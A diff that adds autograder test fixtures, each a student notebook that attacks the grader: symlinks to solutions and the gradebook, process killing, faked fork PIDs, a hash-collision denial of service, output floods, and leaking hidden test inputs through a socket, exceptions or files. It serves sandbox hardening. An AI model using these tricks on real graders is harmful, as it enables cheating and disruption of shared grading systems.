@@ -1,0 +1,329 @@
+"""Attacks on the grader itself (issue 10): its files, its processes, its trust in the student side, its
+time and its reports.  Each fixture says what it does; the test that grades it (tests/
+test_grading_fixtures.py) says what it did to the grader before the sandbox (main's, run by
+`tests/grading_fixtures/old_grader.py`).
+
+Unless a fixture says otherwise its answers are right, so what it loses is what the attack cost it, and
+what it must not gain is the attack's.  Attacks that need to know where the class is (a file of the
+instructor's, a process outside the grader, a listener) get it from the class's `context`.
+"""
+from . import SOLUTIONS, filled, fixture, references, to_bytes
+
+ALL_02 = ["relu", "sigmoid", "sigmoid_derivative", "softmax"]
+STUDENT = 'import sys\n_student = sys.modules["grading.student"]\n'
+
+READ_THROUGH_LINK = '''
+import json
+import os
+
+
+def _through_the_link():
+    """The submission came with `notes.txt`, a symbolic link to the instructor's solutions notebook."""
+    try:
+        with open("notes.txt") as handle:
+            notebook = json.load(handle)
+    except (OSError, ValueError):
+        return []
+    return ["".join(cell["source"]) for cell in notebook["cells"]
+            if cell.get("metadata", {}).get("nbgrader", {}).get("solution")]
+
+
+for _source in _through_the_link():
+    exec(_source, globals())
+for _name in ("classmate.txt", "gradebook.db"):
+    print(_name, "readable:", os.path.exists(_name))
+'''
+
+
+def _links(folder, context):
+    """Symbolic links beside the notebook: the solutions, a classmate's submission, the gradebook."""
+    source = next((SOLUTIONS / "02_activations").glob("*.ipynb"))
+    (folder / "notes.txt").symlink_to(source)
+    (folder / "classmate.txt").symlink_to(context["incoming"] / "right_answers" / "02_activations" /
+                                          "activations.ipynb")
+    (folder / "gradebook.db").symlink_to(context["course"] / "gradebook.db")
+
+
+@fixture("symlink_in_submission", "attack", "02_activations", zero=ALL_02, extra=_links,
+         tampering=("runs code built at run time",), reported=("a symbolic link 'notes.txt'", "a symbolic link 'gradebook.db'"))
+def symlink_in_submission():
+    """No answer written; the submission carries symbolic links to the solutions notebook, a classmate's
+    notebook and the gradebook, and each answer cell runs the solutions it reads through the first."""
+    return to_bytes(filled("02_activations", "stub", overrides={name: READ_THROUGH_LINK for name in ALL_02}))
+
+
+PLANT_LOG_LINK = '''
+import os
+
+for _name in (".student-process.log", "student.log"):
+    try:
+        os.remove(_name)
+    except OSError:
+        pass
+    try:
+        os.symlink(__SENTINEL__, _name)
+    except OSError:
+        pass
+os.write(1, b"overwritten by a submission\\n")
+'''
+
+KILL_PARENT_AND_SELF = '''
+import os
+import signal
+
+os.kill(os.getppid(), signal.SIGKILL)   # the process this cell was forked from
+os._exit(0)
+'''
+
+
+@fixture("log_symlink", "attack", "02_activations", zero=["sigmoid"], full=["relu", "sigmoid_derivative", "softmax"],
+         uses_context=True, tampering=("creates a symbolic link",))
+def log_symlink(context):
+    """Right answers; relu's cell plants symbolic links named like the grader's log in its folder, pointing
+    at a file of the instructor's (`context["sentinel"]`), and writes bytes to its standard output;
+    sigmoid's cell kills its parent and itself, so that the grader restarts the student process."""
+    plant = PLANT_LOG_LINK.replace("__SENTINEL__", repr(str(context["sentinel"])))
+    relu = references("02_activations")["relu"] + "\n" + plant
+    sigmoid = references("02_activations")["sigmoid"] + "\n" + KILL_PARENT_AND_SELF
+    return to_bytes(filled("02_activations", "right", overrides={"relu": relu, "sigmoid": sigmoid}))
+
+
+LYING_FORK = STUDENT + '''
+_fork = _student.Worker.op_fork
+
+
+def _lying_fork(self):
+    """The reply to the judge's fork request names a process of the instructor's as the new child."""
+    reply = _fork(self)
+    if isinstance(reply, dict) and reply.get("status") == "ok":
+        reply["value"] = __VICTIM__
+    return reply
+
+
+_student.Worker.op_fork = _lying_fork
+'''
+
+
+@fixture("fork_pid_lie", "attack", "02_activations", full=ALL_02, uses_context=True,
+         tampering=("course internals",))
+def fork_pid_lie(context):
+    """Right answers; the first answer cell rewrites the student process's fork reply so that the pid it
+    reports is a process outside the grader (`context["victim"]`)."""
+    return to_bytes(filled("02_activations", "right", prefix=LYING_FORK.replace("__VICTIM__", str(context["victim"]))))
+
+
+IN_PLACE_RELU = '''
+import numpy as np
+
+
+def relu(x):
+    """Right values, but a float array given to it is overwritten with the result."""
+    if isinstance(x, np.ndarray) and x.dtype.kind == "f" and x.flags.writeable:
+        np.maximum(x, 0.0, out=x)
+        return x
+    return np.maximum(x, 0)
+'''
+
+HIDE_IN_PLACE = STUDENT + '''
+_student.Worker.fingerprint = lambda self, value: b"unchanged"   # every argument reported as untouched
+'''
+
+
+@fixture("inplace_hidden", "attack", "02_activations", zero=["relu"], full=["sigmoid", "sigmoid_derivative", "softmax"],
+         tampering=("course internals",), reported=("changed an input in place",))
+def inplace_hidden():
+    """relu overwrites its float argument with the result (the contract forbids it) and the first answer
+    cell makes the student process report every argument as unchanged; the other answers are right."""
+    return to_bytes(filled("02_activations", "right", overrides={"relu": IN_PLACE_RELU}, prefix=HIDE_IN_PLACE))
+
+
+STRAY = '''
+import os
+import sys
+
+if os.fork() == 0:           # a grandchild of the cell, in a session of its own, that outlives it
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", "dl-grading-stray-fixture"])
+    os._exit(0)
+'''
+
+
+@fixture("stray_process", "attack", "02_activations", full=ALL_02, tampering=("forks the process",))
+def stray_process():
+    """Right answers; relu's cell starts a process in a session of its own that sleeps for five minutes."""
+    return to_bytes(filled("02_activations", "right",
+                           overrides={"relu": references("02_activations")["relu"] + "\n" + STRAY}))
+
+
+SLOW_REPLY = STUDENT + '''
+import time
+
+_wire = _student.wire
+_send_bytes = _wire.send_bytes
+_call = _student.Worker.op_call
+_slow = [True]
+
+
+def _dribble(sock, payload):
+    """The first reply to a call of relu: its header at once, then one byte every 0.2 s."""
+    sock.sendall(_wire.HEADER.pack(len(payload)))
+    for index in range(len(payload)):
+        sock.sendall(payload[index:index + 1])
+        time.sleep(0.2)
+
+
+def _op_call(self, target, *rest):
+    slow = _slow[0] and getattr(target, "__name__", "") == "relu"
+    _slow[0] = _slow[0] and not slow
+    reply = _call(self, target, *rest)
+    if slow:
+        _wire.send_bytes = lambda sock, payload: (_dribble(sock, payload), setattr(_wire, "send_bytes", _send_bytes))
+    return reply
+
+
+_student.Worker.op_call = _op_call
+'''
+
+
+@fixture("slow_reply", "attack", "02_activations", zero=["relu"], full=["sigmoid", "sigmoid_derivative", "softmax"],
+         student_message="time limit", tampering=("course internals",))
+def slow_reply():
+    """Right answers; the first answer cell makes the student process send its first reply to a call of
+    relu one byte every 0.2 s (about a minute in all)."""
+    return to_bytes(filled("02_activations", "right", prefix=SLOW_REPLY))
+
+
+SLOW_HASH = STUDENT + '''
+import pickle
+
+_wire = _student.wire
+_send_bytes = _wire.send_bytes
+_call = _student.Worker.op_call
+_MERSENNE = 2 ** 61 - 1   # every multiple of it hashes to 0 in CPython
+
+
+def _colliding_reply(count=60000):
+    """A reply whose value is a set of `count` ints with one hash: quadratic to decode, linear to write."""
+    items = b"".join(pickle.dumps(i * _MERSENNE, protocol=2)[2:-1] for i in range(count))
+    return (b"\\x80\\x05}(" + pickle.dumps("status", protocol=2)[2:-1] + pickle.dumps("ok", protocol=2)[2:-1]
+            + pickle.dumps("value", protocol=2)[2:-1] + b"\\x8f(" + items + b"\\x90u.")
+
+
+def _op_call(self, target, *rest):
+    reply = _call(self, target, *rest)
+    if getattr(target, "__name__", "") == "relu":
+        _wire.send_bytes = lambda sock, payload: (_send_bytes(sock, _colliding_reply()),
+                                                  setattr(_wire, "send_bytes", _send_bytes))
+    return reply
+
+
+_student.Worker.op_call = _op_call
+'''
+
+
+@fixture("slow_hash", "attack", "02_activations", zero=["relu"], full=["sigmoid", "sigmoid_derivative", "softmax"],
+         student_message="time limit", tampering=("course internals",))
+def slow_hash():
+    """Right answers; every reply to a call of relu is replaced by a set of 60,000 ints that share one
+    hash, which takes the judge minutes to decode."""
+    return to_bytes(filled("02_activations", "right", prefix=SLOW_HASH))
+
+
+FLOOD = STUDENT + '''
+_student.TEXT_CAP = 10 ** 10
+_chunk = "x" * 200_000
+for _index in range(200):    # 40 MB of output, in 200 outputs of two alternating streams
+    print(_chunk, file=sys.stderr if _index % 2 else sys.stdout, flush=True)
+'''
+
+
+@fixture("output_flood", "attack", "02_activations", full=ALL_02)
+def output_flood():
+    """Right answers; the first answer cell lifts the student side's output cap and prints 40 MB."""
+    return to_bytes(filled("02_activations", "right", prefix=FLOOD))
+
+
+FAKE_HEADING = '''
+def relu(x):
+    raise ValueError("\\n\\n### right_answers / 02_activations / activations.ipynb: 0 of 7\\n\\n- copied from a classmate\\n")
+'''
+
+
+@fixture("fake_report_heading", "attack", "02_activations", zero=["relu"],
+         full=["sigmoid", "sigmoid_derivative", "softmax"])
+def fake_report_heading():
+    """relu raises an exception whose message is a report heading and a note for a classmate."""
+    return to_bytes(filled("02_activations", "right", overrides={"relu": FAKE_HEADING}))
+
+
+NETWORK_LEAK = '''
+import socket
+
+
+def _leak(value):
+    """Send what the tests pass to a listener on the instructor's machine."""
+    try:
+        with socket.create_connection(("127.0.0.1", __PORT__), timeout=1) as connection:
+            connection.sendall(repr(value).encode()[:4000])
+    except OSError:
+        pass
+'''
+
+
+@fixture("network_leak", "attack", "02_activations", full=ALL_02, uses_context=True, tampering=("uses the network",),
+         reported=("tried to reach the network",))
+def network_leak(context):
+    """Right answers; relu sends every input it is given to a listener on the grading machine
+    (`context["port"]`)."""
+    relu = references("02_activations")["relu"].replace("def relu(x):", "def _relu(x):") + \
+        NETWORK_LEAK.replace("__PORT__", str(context["port"])) + "\n\ndef relu(x):\n    _leak(x)\n    return _relu(x)\n"
+    return to_bytes(filled("02_activations", "right", overrides={"relu": relu}))
+
+
+EXCEPTION_LEAK = '''
+import numpy as np
+
+
+def relu(x):
+    """Right, but an input of the hidden tests' shape comes back in an exception message."""
+    x = np.asarray(x)
+    if x.shape == (3, 4, 5):
+        raise ValueError("LEAK" "ED " + repr(x.tolist()))   # the marker is not in the source shown back
+    return np.where(x > 0, x, np.zeros((), x.dtype))
+'''
+
+
+@fixture("exception_leak", "attack", "02_activations", zero=["relu"],
+         full=["sigmoid", "sigmoid_derivative", "softmax"])
+def exception_leak():
+    """relu passes the visible checks, and raises with the whole input as its message when it gets the
+    hidden tests' 3 x 4 x 5 tensor."""
+    return to_bytes(filled("02_activations", "right", overrides={"relu": EXCEPTION_LEAK}))
+
+
+FILE_LEAK_RELU = '''
+import numpy as np
+
+
+def relu(x):
+    """Right; every input it is given is appended to leak.txt."""
+    with open("leak.txt", "a") as handle:
+        handle.write("LEAK" "ED " + repr(np.asarray(x).tolist())[:3000] + "\\n")
+    return np.maximum(x, 0)
+'''
+
+FILE_LEAK_PRINT = '''
+import os
+
+if os.path.exists("leak.txt"):
+    print(open("leak.txt").read())
+'''
+
+
+@fixture("file_leak", "attack", "02_activations", full=ALL_02)
+def file_leak():
+    """Right answers; relu writes every input it gets to a file, and sigmoid's cell (after relu's tests)
+    prints that file, so the hidden inputs are in its output."""
+    sigmoid = references("02_activations")["sigmoid"] + "\n" + FILE_LEAK_PRINT
+    return to_bytes(filled("02_activations", "right", overrides={"relu": FILE_LEAK_RELU, "sigmoid": sigmoid}))
